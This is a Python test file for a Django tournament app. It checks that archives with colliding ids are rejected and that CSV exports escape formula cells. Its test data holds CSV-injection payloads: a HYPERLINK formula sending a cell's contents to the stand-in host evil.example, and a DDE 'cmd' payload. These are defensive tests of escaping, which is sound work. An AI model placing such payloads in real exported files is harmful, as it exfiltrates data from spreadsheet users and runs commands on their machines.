"""Issue 21: an archive whose ids collide is refused whole; CSV cells never run as formulas."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.tournaments.console.test_archive import played_event
from tournaments.console.services.archive import ArchiveError, event_archive, event_archive_import
from tournaments.console.views.exports import csv_safe
from tournaments.events.models import Event, Player
from tournaments.standings.services import standings_recompute

pytestmark = pytest.mark.django_db


def _collide_registrations(archive):
    first, second = archive["registrations"][:2]
    second["id"] = first["id"]


def _collide_submissions(archive):
    tables = archive["rounds"][0]["tables"]
    tables[1]["submissions"][0]["id"] = tables[0]["submissions"][0]["id"]


def _collide_tables(archive):
    tables = archive["rounds"][0]["tables"]
    tables[1]["number"] = tables[0]["number"]


def _collide_seats(archive):
    tables = archive["rounds"][0]["tables"]
    tables[1]["seats"][0] = tables[0]["seats"][0]


@pytest.mark.parametrize(
    ("spoil", "field"),
    [
        (_collide_registrations, "registrations[].id"),
        (_collide_submissions, "submissions[].id"),
        (_collide_tables, "tables[].number"),
        (_collide_seats, "tables[].seats"),
    ],
)
def test_an_archive_whose_ids_collide_is_refused_and_imports_nothing(client, spoil, field):
    event, organizer_user = played_event(rounds=1, players=8)
    archive = event_archive(event.pk)
    spoil(archive)
    players = Player.objects.count()
    with pytest.raises(ArchiveError, match=field.replace("[", r"\[").replace("]", r"\]")):
        event_archive_import(archive, slug="collide")

    client.force_login(organizer_user)
    upload = SimpleUploadedFile("a.json", json.dumps(archive).encode(), "application/json")
    response = client.post("/en/console/import/", {"file": upload, "slug": "collide"})
    assert response.status_code == 400
    assert not Event.objects.filter(slug="collide").exists()
    assert Player.objects.count() == players


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("-2", "-2"),
        ("選手01", "選手01"),
    ],
)
def test_csv_cells_never_start_a_formula(cell, written):
    assert csv_safe(cell).startswith(written)
    assert csv_safe(-2) == -2


def test_the_standings_export_escapes_a_player_named_like_a_formula(client):
    event, organizer_user = played_event(rounds=1, players=8)
    Player.objects.filter(registrations__event=event).filter(
        pk=Player.objects.filter(registrations__event=event).order_by("pk").first().pk
    ).update(display_name='=HYPERLINK("http://evil.example","x")')
    standings_recompute(event_id=event.pk)
    client.force_login(organizer_user)
    for what in ("standings", "results"):
        response = client.get(f"/en/console/{event.slug}/export/{what}.csv")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
        assert names and all(name.startswith("'=") for name in names)
